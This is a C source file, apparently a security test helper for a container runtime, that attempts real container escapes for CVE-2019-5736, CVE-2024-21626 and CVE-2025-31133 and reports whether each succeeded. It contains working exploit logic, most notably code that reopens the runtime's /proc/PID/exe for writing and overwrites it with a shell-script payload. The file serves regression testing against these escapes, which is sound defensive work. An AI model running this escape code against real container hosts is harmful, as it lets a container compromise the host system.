/* berth-escape: container escapes, tried for real from inside a container
 * (tests/integration/security.bats). Static, so it runs in a bare rootfs.
 * Each mode prints "key=value" lines saying what it tried and what the
 * kernel answered; any line starting "ESCAPED" means the attack worked.
 *
 *   exe PID [SECONDS]   CVE-2019-5736: open /proc/PID/exe (the runtime, if
 *                       PID is still the runtime's process), hold it, and
 *                       reopen it for writing as soon as it is no longer
 *                       busy (ETXTBSY: until the runtime is gone); on
 *                       success, overwrite its first bytes.
 *   fds PID MARKER      CVE-2024-21626 (c): every fd of PID that is a
 *                       directory is a way out if MARKER (a file name the
 *                       test made on the host, never in the container) can
 *                       be read by walking up from it.
 *   cwd MARKER          CVE-2024-21626 (a, b): the same from our own working
 *                       directory, which the runtime set.
 *   scan SECONDS MARKER [STOPFILE]
 *                       the first two against every other process, over and
 *                       over, for SECONDS or until STOPFILE exists: the
 *                       runtime's processes of any exec meanwhile included.
 *   mask PAYLOAD PATH.. CVE-2025-31133: writes PAYLOAD to each (masked)
 *                       path; a masked path must take no write.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Walks up from dirfd looking for marker; prints ESCAPED when found. */
static int try_marker(int dirfd, const char *how, const char *marker)
{
	char path[PATH_MAX];

	for (int depth = 0; depth < 24; depth++) {
		size_t n = 0;
		for (int k = 0; k < depth; k++)
			n += (size_t)snprintf(path + n, sizeof(path) - n, "../");
		snprintf(path + n, sizeof(path) - n, "%s", marker);
		int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			char buf[128] = { 0 };
			ssize_t r = read(fd, buf, sizeof(buf) - 1);
			close(fd);
			printf("ESCAPED via=%s depth=%d read=%zd\n", how, depth, r);
			fflush(stdout);
			return 1;
		}
	}
	return 0;
}

static int mode_fds(pid_t pid, const char *marker, int *seen)
{
	char dir[64];
	DIR *d;
	struct dirent *e;
	int escaped = 0;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	d = opendir(dir);
	if (d == NULL)
		return 0;
	while ((e = readdir(d)) != NULL) {
		char path[384], how[400];
		struct stat st;
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		(*seen)++;
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			snprintf(how, sizeof(how), "%s", path);
			escaped |= try_marker(fd, how, marker);
		}
		close(fd);
	}
	closedir(d);
	return escaped;
}

struct held {
	int fd;
	dev_t dev;
	ino_t ino;
};

static struct held held[MAX_HELD];
static int n_held;

/* The container's own files (busybox run by an exec, this program) are
 * no way out: an exe is the container's when the path it names, looked up
 * in the container, is that very file. The runtime's, if it were the
 * host's file, names a path the container does not have. */
static int own_file(int fd, const struct stat *st)
{
	char link[64], target[PATH_MAX];
	struct stat here;
	ssize_t n;

	/* Our own fd's link: the file we hold, whatever PID runs now. */
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	n = readlink(link, target, sizeof(target) - 1);
	if (n <= 0)
		return 0;
	target[n] = '\0';
	return stat(target, &here) == 0 && here.st_dev == st->st_dev && here.st_ino == st->st_ino;
}

/* Opens /proc/PID/exe unless it is a file we hold already. */
static int hold_exe(pid_t pid, int *open_errno)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		*open_errno = errno;
		return -1;
	}
	if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) || own_file(fd, &st)) {
		close(fd);
		return -1;
	}
	for (int i = 0; i < n_held; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
			close(fd);
			return 0;
		}
	if (n_held == MAX_HELD) {
		close(fd);
		return -1;
	}
	held[n_held++] = (struct held){ fd, st.st_dev, st.st_ino };
	return 1;
}

/* Tries to reopen every held exe for writing; returns 1 when one opened
 * (and was written), counting the errors seen. */
static int try_write(int *busy, int *other_errno)
{
	static const char payload[] = "#!/bin/sh\necho pwned-by-a-container\n";

	for (int i = 0; i < n_held; i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0) {
			if (errno == ETXTBSY)
				(*busy)++;
			else
				*other_errno = errno;
			continue;
		}
		char link[64], target[PATH_MAX] = "?";
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		ssize_t tn = readlink(link, target, sizeof(target) - 1);
		target[tn > 0 ? tn : 1] = '\0';
		ssize_t w = pwrite(fd, payload, sizeof(payload) - 1, 0);
		close(fd);
		printf("ESCAPED via=exe-write file=%s wrote=%zd\n", target, w);
		fflush(stdout);
		return 1;
	}
	return 0;
}

static const char *errname(int e)
{
	switch (e) {
	case 0: return "0";
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	default: return strerror(e);
	}
}

static int mode_exe(pid_t pid, double seconds)
{
	int open_errno = 0, busy = 0, other = 0;
	double end = now() + seconds;

	if (hold_exe(pid, &open_errno) < 0) {
		printf("exe_open=%s\n", errname(open_errno));
		return 0;
	}
	printf("exe_open=0\n");
	fflush(stdout);
	/* The runtime's file stays busy while a process runs it: wait it out,
	 * as the attack does. */
	while (now() < end) {
		other = 0;
		if (try_write(&busy, &other))
			return 1;
		if (other != 0)
			break;
		usleep(10000);
	}
	printf("exe_write=%s busy_tries=%d\n", errname(other ? other : ETXTBSY), busy);
	return 0;
}

static int mode_scan(double seconds, const char *marker, const char *stop)
{
	double end = now() + seconds;
	int opened = 0, denied = 0, busy = 0, other = 0, fds_seen = 0, escaped = 0, rounds = 0;
	pid_t self = getpid();

	while (now() < end && !escaped && (stop == NULL || access(stop, F_OK) < 0)) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		rounds++;
		while (d != NULL && (e = readdir(d)) != NULL) {
			pid_t pid = (pid_t)atoi(e->d_name);
			int err = 0;
			if (pid <= 0 || pid == self)
				continue;
			int r = hold_exe(pid, &err);
			if (r > 0)
				opened++;
			else if (r < 0 && (err == EACCES || err == EPERM))
				denied++;
			escaped |= mode_fds(pid, marker, &fds_seen);
		}
		if (d != NULL)
			closedir(d);
		escaped |= try_write(&busy, &other);
	}
	/* The exes held may be free now that the runtime is gone. */
	if (!escaped)
		escaped |= try_write(&busy, &other);
	printf("rounds=%d exes_opened=%d exe_denied=%d fds_seen=%d write_busy=%d "
	       "write_errno=%s\n",
	       rounds, opened, denied, fds_seen, busy, errname(other));
	return escaped;
}

/* A masked file is the null device: writes to it vanish. Any other file a
 * write reaches (a procfs file bound there in its stead) is an escape. */
static int mode_mask(const char *payload, char **paths)
{
	int escaped = 0;

	for (; *paths != NULL; paths++) {
		int fd = open(*paths, O_WRONLY | O_CLOEXEC);
		struct stat st;
		ssize_t w = -1;
		int e = errno;

		if (fd < 0) {
			printf("mask path=%s open=%s\n", *paths, errname(e));
			continue;
		}
		if (fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3)) {
			printf("mask path=%s null=1\n", *paths);
			close(fd);
			continue;
		}
		w = write(fd, payload, strlen(payload));
		e = w < 0 ? errno : 0;
		close(fd);
		if (w > 0) {
			printf("ESCAPED via=mask path=%s wrote=%zd\n", *paths, w);
			escaped = 1;
		} else {
			printf("mask path=%s write=%s\n", *paths, errname(e));
		}
	}
	return escaped;
}

int main(int argc, char **argv)
{
	int escaped = 0;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && strcmp(argv[1], "exe") == 0) {
		escaped = mode_exe((pid_t)atoi(argv[2]), argc > 3 ? atof(argv[3]) : 20);
	} else if (argc == 4 && strcmp(argv[1], "fds") == 0) {
		int seen = 0;
		escaped = mode_fds((pid_t)atoi(argv[2]), argv[3], &seen);
		printf("fds_seen=%d\n", seen);
	} else if (argc == 3 && strcmp(argv[1], "cwd") == 0) {
		char cwd[PATH_MAX];
		printf("cwd=%s\n", getcwd(cwd, sizeof(cwd)) != NULL ? cwd : errname(errno));
		escaped = try_marker(AT_FDCWD, "cwd", argv[2]);
	} else if ((argc == 4 || argc == 5) && strcmp(argv[1], "scan") == 0) {
		escaped = mode_scan(atof(argv[2]), argv[3], argc == 5 ? argv[4] : NULL);
	} else if (argc >= 4 && strcmp(argv[1], "mask") == 0) {
		escaped = mode_mask(argv[2], argv + 3);
	} else {
		fprintf(stderr, "usage: berth-escape exe|fds|cwd|scan|mask ...\n");
		return 2;
	}
	printf("escaped=%d\n", escaped);
	return escaped ? 1 : 0;
}
